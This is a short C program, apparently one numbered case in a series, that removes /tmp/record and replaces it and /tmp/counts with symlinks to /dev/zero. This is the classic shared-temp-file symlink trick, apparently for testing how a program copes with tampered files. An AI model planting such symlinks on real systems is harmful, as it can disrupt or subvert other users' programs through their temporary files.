// 4
#include <unistd.h>
int main() {
    unlink("/tmp/record");
    symlink("/dev/zero", "/tmp/record");
    symlink("/dev/zero", "/tmp/counts");
    return 0;
}
